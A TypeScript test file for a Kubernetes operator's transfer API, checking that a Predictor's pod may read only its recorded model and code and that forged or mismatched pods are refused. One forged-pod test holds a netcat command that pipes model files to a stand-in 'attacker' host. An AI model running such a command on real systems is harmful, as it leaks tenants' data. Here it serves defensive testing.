import type * as k8s from '@kubernetes/client-node';
import { describe, expect, it } from 'vitest';
import { makePredictor, modelDigest } from '../../../test/support/predictor-builders.ts';
import { digestOf } from '../../../test/support/digest.ts';
import type { Predictor } from '../../api/predictor.ts';
import { defaultJobRuntimeConfig } from '../../controllers/job/desired.ts';
import { desiredDeployment } from '../../controllers/predictor/desired.ts';
import { trimPod } from '../../operator/cache-trim.ts';
import { authorizeRun, checkPodSealed, checkReadable, checkWritable, type RunLookups } from './authorize.ts';
import { TransferError } from './errors.ts';
import { checkTokenStaysWithMovers } from './token-holders.ts';

// A Predictor's pod may pull exactly the model (and code) its Predictor's status records, and only
// while it is the pod the operator sealed for that Predictor; it writes nothing.

const keys = [Buffer.from('s'.repeat(32))];
const identity = { namespace: 'team-a', podName: 'serve-predictor-abc', podUid: 'pod-uid' };

function podOf(predictor: Predictor, edit: (spec: k8s.V1PodSpec) => void = () => undefined): k8s.V1Pod {
  const resolved = { model: { digest: modelDigest(), source: 'job team-a/train/model' }, server: { image: 'local/serve:1', code: digestOf('code') } };
  const template = structuredClone(desiredDeployment(predictor, resolved, defaultJobRuntimeConfig, keys).spec!.template);
  edit(template.spec!);
  // As the API server and the operator's cache hold it: a name, a uid, and the trimmed spec.
  return trimPod({ apiVersion: 'v1', kind: 'Pod', metadata: { ...template.metadata, name: identity.podName, namespace: 'team-a', uid: 'pod-uid' }, spec: template.spec });
}

function lookups(pod: k8s.V1Pod, predictors: Predictor[]): RunLookups {
  return {
    pod: (ns, name) => (pod.metadata?.namespace === ns && pod.metadata.name === name ? pod : undefined),
    job: () => undefined,
    batchJob: () => undefined,
    algo: () => undefined,
    dataset: () => undefined,
    predictor: (ns, name) => predictors.find((p) => p.metadata.namespace === ns && p.metadata.name === name),
  };
}

function reason(run: () => unknown): string | undefined {
  try {
    run();
    return undefined;
  } catch (error) {
    return error instanceof TransferError ? error.reason : String(error);
  }
}

const predictor = makePredictor().status({ phase: 'Ready', modelDigest: modelDigest(), codeDigest: digestOf('code') }).obj();

describe("a Predictor's pod and the transfer API", () => {
  it('may pull the recorded model into inputs/model and the code, and nothing else; it writes nothing', () => {
    const pod = podOf(predictor);
    const ctx = authorizeRun(identity, lookups(pod, [predictor]));
    expect(ctx.predictor?.metadata.uid).toBe('uid-serve');
    expect(ctx.plan).toEqual({
      namespace: 'team-a',
      job: 'serve-predictor',
      inputs: [
        { name: 'model', digest: modelDigest(), target: 'inputs/model' },
        { name: 'code', digest: digestOf('code'), target: 'code' },
      ],
      outputs: [],
    });
    expect(reason(() => checkPodSealed(ctx, keys))).toBeUndefined();
    expect(reason(() => checkTokenStaysWithMovers(ctx.pod, defaultJobRuntimeConfig.moverImage, false))).toBeUndefined();
    expect(reason(() => checkReadable(ctx.plan, modelDigest()))).toBeUndefined();
    expect(reason(() => checkReadable(ctx.plan, modelDigest('another tenant\'s')))).toBe('Forbidden');
    expect(reason(() => checkWritable(ctx.plan, 'model'))).toBe('Forbidden');
  });

  it('reads nothing before the controller recorded a model', () => {
    const unresolved = makePredictor().obj();
    expect(authorizeRun(identity, lookups(podOf(unresolved), [unresolved])).plan.inputs).toEqual([]);
  });

  it("refuses a pod whose main container is the tenant's own, under the operator's labels and seal", () => {
    const forged = podOf(predictor, (spec) => {
      spec.containers[0]!.command = ['sh', '-c', 'cat /tessera/inputs/model/* | nc attacker 80'];
    });
    const ctx = authorizeRun(identity, lookups(forged, [predictor]));
    expect(reason(() => checkPodSealed(ctx, keys))).toBe('Forbidden');
  });

  it('refuses a pod naming a Predictor that is not there, or one of the same name with another uid', () => {
    expect(reason(() => authorizeRun(identity, lookups(podOf(predictor), [])))).toBe('Forbidden');
    const recreated = { ...predictor, metadata: { ...predictor.metadata, uid: 'uid-new' } };
    expect(reason(() => authorizeRun(identity, lookups(podOf(predictor), [recreated])))).toBe('Forbidden');
  });

  it("refuses a pod sealed for another Predictor that claims this one's labels", () => {
    const other = makePredictor('other').status({ phase: 'Ready', modelDigest: modelDigest('other') }).obj();
    const pod = podOf(other);
    pod.metadata!.labels = { ...pod.metadata!.labels, 'tessera.dev/predictor': 'serve', 'tessera.dev/predictor-uid': 'uid-serve' };
    const ctx = authorizeRun(identity, lookups(pod, [predictor, other]));
    expect(reason(() => checkPodSealed(ctx, keys))).toBe('Forbidden');
  });
});
